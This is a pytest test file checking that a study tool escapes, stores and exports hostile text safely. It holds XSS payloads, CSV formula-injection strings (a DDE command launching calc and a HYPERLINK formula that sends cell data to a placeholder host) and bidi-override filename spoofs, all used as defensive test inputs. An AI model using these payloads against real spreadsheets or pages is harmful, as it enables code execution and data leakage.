"""Text that wants to be more than text, in every field: read, stored, said and written out as it is."""

import csv
import io
import json
import re
from html import unescape

import pytest
from helpers.texts.factories import StudyAtHand, paper_json, study_in
from helpers.texts.factories import dataset as some_dataset

from core.errors import AssayError, InputError
from core.formats.study.files import read_dataset
from core.report import markdown_text
from core.schema.study import Dataset
from core.store import Store
from core.store.answers import load_record
from core.store.studies import read_log, write_log
from core.study.bundle import read_bundle, write_bundle
from core.study.export import answers_csv, answers_jsonl
from core.study.lifecycle import set_guideline
from core.study.raters import rater_id_problem
from core.tables.reading import name_of, printable_text, shown
from pages.widgets.messages import code_markdown, plain

FORMULA = "=+-@＝＋－＠"
MARKUP = [
    "<b>bold</b>",
    "<script>alert(1)</script>",
    "<img src=http://outside.invalid/a.png onerror=alert(1)>",
    "&lt;b&gt; &amp; &#x3c;",
    "![image](http://outside.invalid/b.png)",
    "[link](http://outside.invalid/)",
    "<http://outside.invalid/>",
    "http://outside.invalid/c and HTTPS://outside.invalid and WWW.outside.invalid",
    "somebody@outside.invalid and somebody@_outside.invalid",
    "see:www.outside.invalid, (wwW.outside.invalid), ftp://outside.invalid",
    "# heading",
    "> quote",
    "- item",
    "12. item",
    "--- rule",
    "`code` **bold** _slanted_ ~~gone~~",
    "|a|b|",
    "$x^2$ and $$y$$",
    ":smile: :+1: :-1: :100:",
    ":material/home: :streamlit: :red[red] :red-background[red]",
    "a -> b <- c <-> d -- e >= f <= g ~= h",
    "ends with \\",
    "%s {0} ${x} %(name)s",
]
FORMULAS = [
    *(f"{start}1+1" for start in FORMULA),
    "\0=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://outside.invalid/?"&A1)',
    *(
        f"{blank}=1+1"
        for blank in (
            " ",
            "   ",
            "\t",
            "\n",
            "\r\n",
            " \t\n ",
            "\u00a0",
            "\u3000",
            "\ufeff",
            "\u200b",
            "\u2800",
            "\u00ad",
            "\u115f",
        )
    ),
]
UNSHOWABLE = ["a\0b", "\x1b[31mred\x07", "it\x92s", "a\u202egnp.exe", "\u2066a\u2069", "a\u200f\u061c1 2"]
HOSTILE = [*MARKUP, *FORMULAS, *UNSHOWABLE]
hostile = pytest.mark.parametrize("value", HOSTILE, ids=ascii)

# What Streamlit 1.67 rewrites in a text after Markdown was parsed, from its front end; %s is (^|\s) ... (\s|$).
REWRITTEN = [
    r"(https?://|www(?=\.))([-.\w]+)([^ \t\r\n]*)",
    r"(?:^|(?<=[\W_]))([-.\w+]+)@([-\w]+(?:\.[-\w]+)+)",
    r":\+1:|:-1:|:[\w+-][\w_+-]*:",
    r":material[/_]\w+:",
    r":[a-zA-Z][\w-]*[\[{]",
    *(rf"(^|\s){re.escape(sign)}(\s|$)" for sign in ("<->", "->", "<-", "--", ">=", "<=", "~=")),
]


# --- what a page shows ----------------------------------------------------------------------------


@hostile
def test_plain_text_stays_what_it_is_under_markdown(value: str) -> None:
    written = plain(value)
    assert re.fullmatch(r"(?:\\[!-/:-@\[-`{-~]|[^\\`*_{}\[\]()<>#~$:|!&])*", written), (
        "all that acts is escaped"
    )
    assert not re.match(r"(\d*[-+.]|=+|-+)(\s|$)", written), "no list and no heading"
    read = re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", written)
    for pattern in REWRITTEN:
        assert not re.search(pattern, read, re.IGNORECASE), pattern
    expected = re.sub(r"[^\S\u00a0]+", " ", value).strip(" ")
    expected = re.sub("[\0-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]", "\ufffd", expected)
    assert read.replace("\u2060", "") == expected


@hostile
def test_a_markdown_file_makes_no_link_of_a_name(value: str) -> None:
    written = markdown_text(value)
    read = re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", written)
    for pattern in REWRITTEN[:2]:
        assert not re.search(pattern, read, re.IGNORECASE), pattern
    assert not re.search(r"(?<!\\)[<\[]", written)
    assert read.replace("\u2060", "") == " ".join(value.split())


@hostile
def test_a_name_in_a_sentence_of_core_becomes_code_at_most(value: str) -> None:
    """Backticks of a name may close and open code; what is outside of it is as plain as anywhere."""
    shown = code_markdown(f"Study {value} is open: `study unblind {value} --reason TEXT` ends it.")
    outside = re.sub(r"(?<!\\)`[^`]*`", "", shown)
    assert re.fullmatch(r"(?:\\[!-/:-@\[-`{-~]|[^\\`*_{}\[\]()<>#~$:|!&])*", outside)
    assert shown.isprintable() or "\u2060" in shown or not value.isprintable()


def test_commands_in_a_sentence_are_code_and_blanks_stay() -> None:
    said = code_markdown(
        "End it: `study unblind 'a *b*' --reason TEXT`. Until then: `study progress x`, a * b."
    )
    assert said == (
        "End it\\: `study unblind 'a *b*' --reason TEXT`\\. Until then\\: `study progress x`, a \\* b."
    )
    assert code_markdown("one ` alone") == "one \\` alone"


def test_nothing_is_left_in_a_label_that_turns_what_follows_round() -> None:
    for code in (*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F, 0x061C):
        assert plain(f"a{chr(code)}b") == "a\ufffdb"
    assert plain("\ud800") == "\ufffd"
    assert plain("אבג العربية e\u0301 👩\u200d🔬 می\u200cروم") == "אבג العربية e\u0301 👩\u200d🔬 می\u200cروم"


@hostile
def test_messages_repeat_names_in_printable_characters(value: str) -> None:
    assert shown(value).isprintable()
    assert unescape(shown(value)) == shown(unescape(shown(value)))


# --- in by a file, out by an export ---------------------------------------------------------------


def hostile_dataset(value: str) -> Dataset:
    """A data set with `value` as question, reference and text, and as every name that may hold it."""

    def name(default: str) -> str:
        return f"{value}{default}" if name_of(f"{value}{default}") else default

    data = some_dataset(2, (name("A0"), name("A1")), (name("one"), name("two")))
    raw = json.loads(paper_json(data))
    for number, question in enumerate(raw["questions"]):
        question |= {"id": name(str(number)), "question": value, "ground_truth": value}
        first = next(iter(question["answers"].values()))
        first |= dict.fromkeys(first, value)
    return read_dataset(json.dumps(raw).encode(), f"{value}.json")


def hostile_study(store: Store, value: str) -> StudyAtHand:
    """The same as a study, with `value` as its name, a rater's id, a comment and a line of the log too."""
    data = hostile_dataset(value)
    rater = "R1" if rater_id_problem(value.strip()) else value
    name = value.strip() if value.strip().isprintable() else "study"
    at_hand = study_in(store, data, raters=(rater,), name=name)
    (rater_id,) = (rater.rater_id for rater in at_hand.record.raters)
    desk = at_hand.desk(rater_id)
    for number in (1, 2, 3):
        desk.save_choice(number, "left", seconds=1.0, diff_used="none")
        desk.save_note(number, comment=value)
    write_log(store, at_hand.study_id, "noted", printable_text(value))
    return at_hand


@hostile
def test_every_field_is_stored_as_the_file_has_it(store: Store, value: str) -> None:
    record = hostile_study(store, value).record
    kept = printable_text(value).replace("\r\n", "\n").strip()
    assert {text for item in record.items for text in (item.question, item.reference)} == {kept}
    assert kept in {output.text for output in record.outputs}
    assert read_log(store, record.study.study_id)[-1].detail == printable_text(value)
    if name_of(f"{value}0"):
        assert record.items[0].item_id == f"{value}0".strip()
    again = read_bundle(write_bundle(record), "b.zip")
    assert again == record
    assert load_record(store, record.study) == record


@hostile
def test_jsonl_holds_texts_untouched(store: Store, value: str) -> None:
    record = hostile_study(store, value).record
    rows = [json.loads(line) for line in answers_jsonl(record).decode().split("\n") if line]
    items = {item.item_id: item for item in record.items}
    answers = {(a.item_id, a.level, a.repeat): a for a in record.answers}
    assert len(rows) == 3
    for row in rows:
        assert row["question"] == items[row["item_id"]].question
        assert row["comment"] == answers[row["item_id"], row["level"], row["repeat"]].comment
        assert row["comment"] == printable_text(value)
        assert (row["study"], row["rater"]) == (record.study.name, record.raters[0].rater_id)


@hostile
def test_no_cell_of_the_csv_is_a_formula(store: Store, value: str) -> None:
    record = hostile_study(store, value).record
    content = answers_csv(record).decode()
    rows = list(csv.DictReader(io.StringIO(content, newline=""), strict=True))
    assert len(rows) == 3
    for row in rows:
        for column, cell in row.items():
            bare = re.sub(r"^[\s\0\u00ad\u115f\u200b\u2800\ufeff]+", "", cell)
            numeric = re.fullmatch(r"-?[\d.]+", cell)
            assert numeric or not bare.startswith(tuple(FORMULA)), column
        assert (
            row["comment"].removeprefix("'") == json.loads(answers_jsonl(record).split(b"\n")[0])["comment"]
        )


# --- refused, in words ----------------------------------------------------------------------------


def said(error: AssayError) -> list[str]:
    return str(error).split("\n")


@hostile
def test_an_error_about_a_hostile_file_is_printable(value: str) -> None:
    raw = json.loads(paper_json(some_dataset(2)))
    question = raw["questions"][0]
    question["language"] = f"x{value}"
    question["answers"][f"{value}A"] = {f"{value}b": "", "ai": value}
    question["answers"]["A1"] = {f"{value}c": value}
    question[f"{value}d"] = 1
    rows = [{"item_id": f"{value}1", "level": f"{value}2", "source": f"{value}3", "text": "", f"{value}4": 1}]
    table = io.StringIO(newline="")
    csv.writer(table).writerows([["item_id", f"{value}x", "text"], [value, value, value]])
    for content, name in (
        (json.dumps(raw), "a.json"),
        ("\n".join(json.dumps(row) for row in rows), "a.jsonl"),
        (table.getvalue(), "a.csv"),
        (json.dumps(raw), f"{value}.json"),
    ):
        with pytest.raises(InputError) as caught:
            read_dataset(content.encode(), name)
        assert caught.value.problems
        for line in said(caught.value):
            assert line.isprintable(), ascii(line)


@pytest.mark.parametrize("value", UNSHOWABLE, ids=ascii)
def test_names_that_cannot_be_shown_are_refused_in_printable_words(store: Store, value: str) -> None:
    at_hand = study_in(store)
    with pytest.raises(InputError) as no_name:
        study_in(store, name=value)
    with pytest.raises(InputError) as no_rater:
        study_in(store, name="other", raters=(value,))
    for caught in (no_name, no_rater):
        assert all(line.isprintable() for line in said(caught.value))
    assert at_hand.record.study.name == "study"


@pytest.mark.parametrize("value", [v for v in MARKUP if re.search(r"<\w|!\[", v)], ids=ascii)
def test_guidelines_hold_no_html_and_no_image(store: Store, value: str) -> None:
    at_hand = study_in(store)
    with pytest.raises(InputError) as caught:
        set_guideline(store, at_hand.study, "en", f"Read closely. {value}")
    assert "plain Markdown" in str(caught.value)
    assert at_hand.record.guidelines == {}
